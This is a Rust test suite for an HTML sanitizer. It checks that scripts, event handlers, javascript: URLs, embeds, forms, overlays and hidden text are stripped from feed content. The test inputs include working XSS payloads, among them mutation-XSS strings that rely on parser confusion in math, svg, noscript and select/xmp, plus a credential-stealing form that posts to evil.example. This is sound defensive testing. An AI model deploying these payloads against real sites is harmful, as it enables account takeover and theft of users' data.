//! Tests of [`super`]: what the cleaner removes, keeps and shows as text.

use super::*;

fn base() -> Url {
    Url::parse("https://example.com/reviews/heat/").unwrap()
}

fn clean(html: &str) -> (String, Option<String>) {
    let clean = clean_html(html, &base());
    (clean.html, clean.cleaned.note())
}

#[test]
fn scripts_handlers_and_code_urls_are_removed() {
    let (out, note) = clean(concat!(
        "<p onclick=\"steal()\" class=x>a<script>alert('<p>')</script>b</p>",
        "<SCRIPT src=\"x.js\"></SCRIPT><svg><script>1</script></svg>",
        "<a href=\"javascript:alert(1)\" OnMouseOver='x()'>c</a>",
        "<a href=\"&#106;avascript&colon;alert(1)\">d</a>",
        "<form action=\"vbscript:x\"><button formaction=\"data:text/html,x\">e</button></form>",
        "<img src=\"data:image/png;base64,AAAA\">"
    ));
    assert_eq!(
        out,
        concat!(
            "<p class=x>ab</p><a>c</a><a>d</a>",
            "<img src=\"data:image/png;base64,AAAA\">"
        )
    );
    assert_eq!(
        note.as_deref(),
        Some(
            "body: removed 2 <script> elements, 1 <svg> element, 1 <form> element, 2 event-handler attributes, 2 javascript: URLs"
        )
    );
}

#[test]
fn embeds_become_links() {
    let (out, note) = clean(concat!(
        "<iframe src=\"https://www.youtube-nocookie.com/embed/x?a=1&amp;b=2\" allowfullscreen></iframe>\n",
        "<p><embed src=\"//media.example/clip.swf\"></p>\n",
        "<object data=\"film.mp4\"><param name=a value=b><embed src=\"inner.swf\">fallback</object>\n",
        "<iframe srcdoc=\"<script>x()</script>\"></iframe><iframe src=\"javascript:x\"></iframe>"
    ));
    assert_eq!(
        out,
        concat!(
            "<a href=\"https://www.youtube-nocookie.com/embed/x?a=1&amp;b=2\">https://www.youtube-nocookie.com/embed/x?a=1&amp;b=2</a>\n",
            "<p><a href=\"https://media.example/clip.swf\">https://media.example/clip.swf</a></p>\n",
            "<a href=\"https://example.com/reviews/heat/film.mp4\">https://example.com/reviews/heat/film.mp4</a>\n",
            ""
        )
    );
    assert_eq!(
        note.as_deref(),
        Some(
            "body: removed 2 <iframe> elements without a safe URL; turned 1 <iframe>, 1 <embed>, 1 <object> into links"
        )
    );
    let (_, one) = clean("<iframe src=\"https://x.org/v\"></iframe>");
    assert_eq!(one.as_deref(), Some("body: turned 1 <iframe> into a link"));
}

#[test]
fn url_attributes_are_decoded_then_made_absolute() {
    let (out, note) = clean(concat!(
        "<a href=\"&#47;about&#47;\">a</a><a href='&sol;x?a=1&amp;b=2'>b</a>",
        "<img data-src=\"img/a.jpg\" srcset=\"https://cdn.example/w_400,h_300/x.jpg 1x, s.jpg 2x\">",
        "<video poster=p.jpg><source src=\"v.mp4\"></video><blockquote cite=\"../q/\"></blockquote>",
        "<img longdesc=\"d.html\"><td background=\"bg.png\"></td><a ping=\"/p1 /p2\">c</a>"
    ));
    assert_eq!(
        out,
        concat!(
            "<a href=\"https://example.com/about/\">a</a><a href=\"https://example.com/x?a=1&amp;b=2\">b</a>",
            "<img data-src=\"https://example.com/reviews/heat/img/a.jpg\" srcset=\"https://cdn.example/w_400,h_300/x.jpg 1x, https://example.com/reviews/heat/s.jpg 2x\">",
            "<video poster=\"https://example.com/reviews/heat/p.jpg\"><source src=\"https://example.com/reviews/heat/v.mp4\"></video><blockquote cite=\"https://example.com/reviews/q/\"></blockquote>",
            "<img longdesc=\"https://example.com/reviews/heat/d.html\"><td background=\"https://example.com/reviews/heat/bg.png\"></td><a ping=\"https://example.com/p1 https://example.com/p2\">c</a>"
        )
    );
    assert_eq!(note, None, "making URLs absolute is no change to report");
}

#[test]
fn repeated_attributes_are_checked_but_the_first_one_counts() {
    let (out, note) =
        clean("<a href=\"a/\" href=\"b/\">x</a><a href=\"c/\" HREF=\"javascript:y\">z</a>");
    assert_eq!(
        out,
        "<a href=\"https://example.com/reviews/heat/a/\" href=\"b/\">x</a><a>z</a>"
    );
    assert_eq!(note.as_deref(), Some("body: removed 1 javascript: URL"));
}

#[test]
fn untouched_markup_keeps_its_bytes() {
    let html = "<p title='a &amp; b'>x</p><!-- <a href=\"c\"> --><A HREF='https://x.org/'>y</A> 1 < 2 &amp; <br/><img srcset=\"https://cdn.example/w_400,h_300/x.jpg 1x\">";
    // All but the comment's text, which is the author's and goes.
    let kept = html.replace("<!-- <a href=\"c\"> -->", "<!---->");
    assert_eq!(clean(html), (kept, None));
}

#[test]
fn a_body_that_ends_inside_a_tag_is_shown_as_text() {
    for html in [
        "<a href=\"x",
        "<a href=",
        "<a",
        "<img src='x' srcset",
        "<script>never closed",
        "</script><script",
        "<iframe src=x>",
        "<!-- never closed <script>",
        "<p>t</p><a title=\"<b>\" href=\"java",
    ] {
        let (out, note) = clean(html);
        assert_eq!(out, format!("<pre>{}</pre>\n", escape_html(html)));
        assert_eq!(
            note.as_deref(),
            Some(
                "body: its HTML ends inside a tag, comment or element whose text is not HTML (such as <script>), so the whole body is shown as text; close it"
            )
        );
    }
    for whole in [
        "<p>ok",
        "a < b",
        "<\u{e9}",
        "<p>x</p>\n",
        "",
        "<feedwright-end>",
    ] {
        assert_eq!(clean(whole), (whole.to_string(), None));
    }
}

#[test]
fn what_follows_an_embed_closed_without_its_end_tag_is_cleaned() {
    let (out, _) = clean("<p><object data=x.mp4></p><script>x()</script><a onclick=y>z</a>");
    assert!(
        !out.contains("<script") && !out.contains("onclick"),
        "{out}"
    );
}

/// Audit: `<math><mtext><table><mglyph><style><img onerror>` passed unchanged, and once a
/// reader parses and writes it again (html5lib shows it), the `<img onerror>` is live. The
/// siblings of that namespace confusion go the same way: nothing inside `<svg>`, `<math>`
/// or `<noscript>` is kept.
#[test]
fn mutation_xss_in_foreign_content_and_noscript_is_removed() {
    let onerror = "<img src=x onerror=alert(1)>";
    for (html, out, removed) in [
        (
            format!("<math><mtext><table><mglyph><style>{onerror}</style></mglyph></table></mtext></math>"),
            "",
            "1 <math> element",
        ),
        (format!("<svg><style>{onerror}</style></svg>"), "", "1 <svg> element"),
        (format!("<math><style>{onerror}</style></math>"), "", "1 <math> element"),
        (
            format!("<noscript><p title=\"</noscript>{onerror}\"></noscript>"),
            "<img src=\"https://example.com/reviews/heat/x\">\"></noscript>",
            "1 <noscript> element, 1 event-handler attribute",
        ),
        (
            "<p>a</p><form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)></style><p>b</p>".to_string(),
            "<p>a</p>",
            "2 <form> elements",
        ),
        // Read as foreign content here, `<![CDATA[` hid the `<img>`; without the `<svg>`,
        // a reader reads a bogus comment up to the first `>`: the output is read again.
        (
            "<div><svg></div><![CDATA[x><img src onerror=alert(1)>]]>".to_string(),
            "<div><!----><img src>]]>",
            "1 <svg> element, 1 event-handler attribute",
        ),
        (
            "<p>Rated <svg viewBox=\"0 0 1 1\"><title>5 stars</title><path d=\"M0\"/></svg>.<svg/></p>".to_string(),
            "<p>Rated .</p>",
            "2 <svg> elements",
        ),
    ] {
        let (cleaned, note) = clean(&html);
        assert_eq!(cleaned, out, "{html}");
        assert_eq!(note, Some(format!("body: removed {removed}")), "{html}");
    }
    // Unclosed, the `<style>` runs to the end: shown as text.
    let (out, _) =
        clean("<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>");
    assert!(out.starts_with("<pre>&lt;form&gt;"), "{out}");
}

/// Some parsers ignore `<xmp>` (`<style>`, `<noembed>`...) inside `<select>`, and read as a
/// tag what it hides from this one: such a body is shown as text.
#[test]
fn text_elements_where_parsers_disagree_make_the_body_text() {
    for html in [
        "<select><xmp></select><img src=x onerror=alert(1)></xmp>",
        "<select><noembed></select><img src=x onerror=alert(1)></noembed>",
        "<frameset><xmp><img src=x onerror=alert(1)></xmp>",
    ] {
        let (out, note) = clean(html);
        assert_eq!(out, format!("<pre>{}</pre>\n", escape_html(html)));
        assert_eq!(
            note.as_deref(),
            Some(
                "body: its HTML can be read in more than one way (such as <style> or <xmp> inside <select>), so the whole body is shown as text; take that markup out"
            )
        );
    }
}

#[test]
fn what_went_with_a_removed_element_is_known_by_its_bytes() {
    let html =
        "a<script>x</script>b<object data=y><p>fb</p></object>c<svg><style>s</style></svg><br>";
    let clean = clean_html(html, &base());
    let removed: Vec<&str> = clean.removed.iter().map(|r| &html[r.clone()]).collect();
    assert_eq!(
        removed,
        [
            "<script>x</script>",
            "<object data=y><p>fb</p></object>",
            "<svg><style>s</style></svg>",
            "<style>s</style>",
        ]
    );
    assert!(clean.html.starts_with("ab<a href="), "{}", clean.html);
}

/// Audit: a login form posting elsewhere, a page-wide overlay, text hidden by its style and
/// the author's comments all reached the feeds as written.
#[test]
fn forms_overlays_hidden_text_and_comments_are_removed() {
    let base = Url::parse("https://example.com/reviews/heat/").unwrap();
    let html = "<p>A<!-- private: the director owes me --> b</p>\
        <form action=\"https://evil.example/steal\"><input name=password type=password><button>Log in</button></form>\
        <img src=\"x.png\" style=\"position:fixed;inset:0;z-index:99999\">\
        <span style=\"display:none\">hidden</span><span style=\"color:red\">red</span>\
        <frameset><frame src=\"x.html\"></frameset><select><option>o</option></select><input autofocus><keygen autofocus>\n";
    let clean = clean_html(html, &base);
    let out = clean.html.to_ascii_lowercase();
    for gone in [
        "private",
        "<form",
        "<input",
        "<button",
        "password",
        "position",
        "display:none",
        "<frameset",
        "<select",
        "<keygen",
        "translate",
        "scale",
        "inset",
        "font-size",
    ] {
        assert!(!out.contains(gone), "{gone}: {}", clean.html);
    }
    assert!(out.contains("<p>a<!----> b</p>"), "{}", clean.html);
    // Emptied, not removed: a comment between `<` and a tag name keeps them apart.
    let split = clean_html("<<!-- x -->script>alert(1)<<!-- -->/script>", &base).html;
    assert_eq!(split, "<<!---->script>alert(1)<<!---->/script>");
    assert!(out.contains("style=\"color:red\""), "{}", clean.html);
    assert!(
        out.contains("<img src=\"https://example.com/reviews/heat/x.png\">"),
        "{}",
        clean.html
    );
}
